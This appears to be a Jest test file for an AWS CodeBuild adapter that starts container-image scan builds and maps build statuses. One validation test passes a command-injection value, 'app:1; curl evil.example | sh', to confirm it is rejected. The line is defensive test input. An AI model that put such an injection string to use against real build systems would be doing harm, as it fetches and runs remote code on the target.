import { AccountLimitExceededException, BatchGetBuildsCommand, CodeBuildClient, InvalidInputException, StartBuildCommand } from '@aws-sdk/client-codebuild';
import { mockClient } from 'aws-sdk-client-mock';
import 'aws-sdk-client-mock-jest';
import { CodeBuildScanner, SCAN_BUILD_ENV, buildIdFromArn, idempotencyTokenFor } from '../../functions/adapters/codebuild';
import { InputError } from '../../functions/core/errors';
import { ScanCapacityError } from '../../functions/core/ports';
import { SCAN_REQUEST, awsError } from './sample-data';

const codeBuildMock = mockClient(CodeBuildClient);
const scanner = new CodeBuildScanner({ client: new CodeBuildClient({ region: 'eu-west-1' }), projectName: 'fargate-gate-scan' });

const request = SCAN_REQUEST;

beforeEach(() => codeBuildMock.reset());

describe('startScan', () => {
  it('starts one build of the scan project with the four PLAINTEXT variables and the scan id as token', async () => {
    codeBuildMock.on(StartBuildCommand).resolves({ build: { id: 'fargate-gate-scan:5e0f3c2a', arn: 'arn:aws:codebuild:eu-west-1:123456789012:build/fargate-gate-scan:5e0f3c2a' } });
    expect(await scanner.startScan(request)).toEqual({ buildId: 'fargate-gate-scan:5e0f3c2a' });
    expect(codeBuildMock).toHaveReceivedCommandTimes(StartBuildCommand, 1);
    expect(codeBuildMock).toHaveReceivedCommandWith(StartBuildCommand, {
      projectName: 'fargate-gate-scan',
      idempotencyToken: request.scanId,
      environmentVariablesOverride: [
        { name: 'IMAGE_REF', value: request.imageReference, type: 'PLAINTEXT' },
        { name: 'IMAGE_DIGEST', value: request.digest, type: 'PLAINTEXT' },
        { name: 'REPORT_KEY', value: request.reportKey, type: 'PLAINTEXT' },
        { name: 'SCAN_ID', value: request.scanId, type: 'PLAINTEXT' },
      ],
    });
    const input = codeBuildMock.commandCalls(StartBuildCommand)[0].args[0].input;
    // Nothing else is overridden: the buildspec, image and privileges stay the project's.
    expect(Object.keys(input).sort()).toEqual(['environmentVariablesOverride', 'idempotencyToken', 'projectName']);
  });

  it('names the variables in one exported constant', () => {
    expect(SCAN_BUILD_ENV).toEqual({ imageReference: 'IMAGE_REF', imageDigest: 'IMAGE_DIGEST', reportKey: 'REPORT_KEY', scanId: 'SCAN_ID', scanMode: 'SCAN_MODE', sbomKey: 'SBOM_KEY' });
  });

  it('asks an sbom re-judgement of the stored SBOM with SCAN_MODE and SBOM_KEY, nothing else changed', async () => {
    codeBuildMock.on(StartBuildCommand).resolves({ build: { id: 'fargate-gate-scan:abc' } });
    const sbomKey = request.reportKey.replace(/\.json$/, '.cdx.json');
    await scanner.startScan({ ...request, mode: 'sbom', sbomKey });
    expect(codeBuildMock).toHaveReceivedCommandWith(StartBuildCommand, {
      environmentVariablesOverride: [
        { name: 'IMAGE_REF', value: request.imageReference, type: 'PLAINTEXT' },
        { name: 'IMAGE_DIGEST', value: request.digest, type: 'PLAINTEXT' },
        { name: 'REPORT_KEY', value: request.reportKey, type: 'PLAINTEXT' },
        { name: 'SCAN_ID', value: request.scanId, type: 'PLAINTEXT' },
        { name: 'SCAN_MODE', value: 'sbom', type: 'PLAINTEXT' },
        { name: 'SBOM_KEY', value: sbomKey, type: 'PLAINTEXT' },
      ],
    });
  });

  it('refuses an sbom scan without an SBOM key before calling CodeBuild', async () => {
    await expect(scanner.startScan({ ...request, mode: 'sbom' })).rejects.toThrow(/sbom scan needs sbomKey/);
    expect(codeBuildMock).not.toHaveReceivedCommand(StartBuildCommand);
  });

  it.each([
    ['AccountLimitExceededException', () => new AccountLimitExceededException({ message: 'Cannot have more than 1 builds in queue for the account', $metadata: {} })],
    ['ThrottlingException', () => awsError('ThrottlingException', 'Rate exceeded', { throttling: true })],
    ['an HTTP 429', () => awsError('TooManyRequests', 'slow down', { httpStatusCode: 429 })],
  ])('turns %s into a ScanCapacityError the caller can queue', async (_, error) => {
    codeBuildMock.on(StartBuildCommand).rejects(error());
    const failure = scanner.startScan(request);
    await expect(failure).rejects.toBeInstanceOf(ScanCapacityError);
    await expect(failure).rejects.toThrow(`scan ${request.scanId} on project fargate-gate-scan`);
  });

  it('passes other errors on unchanged', async () => {
    const error = new InvalidInputException({ message: 'Invalid idempotency token: parameter mismatch', $metadata: {} });
    codeBuildMock.on(StartBuildCommand).rejects(error);
    await expect(scanner.startScan(request)).rejects.toBe(error);
  });

  it('refuses an image reference that is not an OCI reference before calling CodeBuild', async () => {
    await expect(scanner.startScan({ ...request, imageReference: 'app:1; curl evil.example | sh' })).rejects.toThrow(InputError);
    await expect(scanner.startScan({ ...request, reportKey: 'a\nb' })).rejects.toThrow('reportKey must be an S3 key');
    await expect(scanner.startScan({ ...request, scanId: '' })).rejects.toThrow('scanId must be a non-empty string');
    expect(codeBuildMock).not.toHaveReceivedCommand(StartBuildCommand);
  });

  it('fails clearly when CodeBuild returns no build', async () => {
    codeBuildMock.on(StartBuildCommand).resolves({});
    await expect(scanner.startScan(request)).rejects.toThrow('returned no build id');
  });

  it('hashes a scan id that is not a plain token', () => {
    expect(idempotencyTokenFor('scan-1')).toBe('scan-1');
    const hashed = idempotencyTokenFor('scan with spaces / and more '.repeat(4));
    expect(hashed).toMatch(/^[0-9a-f]{64}$/);
    expect(idempotencyTokenFor('scan with spaces / and more '.repeat(4))).toBe(hashed);
    expect(idempotencyTokenFor('x'.repeat(65))).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe('getBuildStatuses', () => {
  it('asks BatchGetBuilds in chunks of 100 and maps every status', async () => {
    const ids = Array.from({ length: 230 }, (_, n) => `fargate-gate-scan:build-${n}`);
    const statuses = ['IN_PROGRESS', 'SUCCEEDED', 'FAILED', 'FAULT', 'TIMED_OUT', 'STOPPED'] as const;
    codeBuildMock.on(BatchGetBuildsCommand).callsFake((input: { ids: string[] }) => ({
      builds: input.ids.filter((id) => !id.endsWith('-5')).map((id) => ({ id, buildStatus: statuses[Number(id.split('-').pop()) % statuses.length] })),
      buildsNotFound: input.ids.filter((id) => id.endsWith('-5')),
    }));
    const result = await scanner.getBuildStatuses(ids);
    expect(codeBuildMock.commandCalls(BatchGetBuildsCommand).map((call) => call.args[0].input.ids!.length)).toEqual([100, 100, 30]);
    expect(result).toHaveLength(229);
    expect(result.find((entry) => entry.buildId === 'fargate-gate-scan:build-13')).toEqual({ buildId: 'fargate-gate-scan:build-13', status: 'SUCCEEDED' });
    expect(result.find((entry) => entry.buildId === 'fargate-gate-scan:build-5')).toBeUndefined();
  });

  it('accepts build ARNs (from Build State Change events) and answers with the string it was given', async () => {
    const arn = 'arn:aws:codebuild:eu-west-1:123456789012:build/fargate-gate-scan:8745a7a9-c340-456a-9166-edf953571bEX';
    codeBuildMock.on(BatchGetBuildsCommand).resolves({ builds: [{ id: 'fargate-gate-scan:8745a7a9-c340-456a-9166-edf953571bEX', buildStatus: 'FAILED' }] });
    expect(await scanner.getBuildStatuses([arn, 'fargate-gate-scan:8745a7a9-c340-456a-9166-edf953571bEX'])).toEqual([
      { buildId: arn, status: 'FAILED' },
      { buildId: 'fargate-gate-scan:8745a7a9-c340-456a-9166-edf953571bEX', status: 'FAILED' },
    ]);
    expect(codeBuildMock).toHaveReceivedCommandWith(BatchGetBuildsCommand, { ids: ['fargate-gate-scan:8745a7a9-c340-456a-9166-edf953571bEX'] });
  });

  it('maps a status it does not know by whether the build is complete', async () => {
    codeBuildMock.on(BatchGetBuildsCommand).resolves({
      builds: [
        { id: 'p:1', buildStatus: 'PAUSED' as never, buildComplete: false },
        { id: 'p:2', buildStatus: 'CANCELLED' as never, buildComplete: true },
      ],
    });
    expect(await scanner.getBuildStatuses(['p:1', 'p:2'])).toEqual([
      { buildId: 'p:1', status: 'IN_PROGRESS' },
      { buildId: 'p:2', status: 'FAULT' },
    ]);
  });

  it('makes no call for no ids', async () => {
    expect(await scanner.getBuildStatuses([])).toEqual([]);
    expect(codeBuildMock).not.toHaveReceivedCommand(BatchGetBuildsCommand);
  });

  it('reads the id out of a build ARN', () => {
    expect(buildIdFromArn('arn:aws-cn:codebuild:cn-north-1:123456789012:build/p:abc')).toBe('p:abc');
    expect(buildIdFromArn('p:abc')).toBe('p:abc');
  });
});
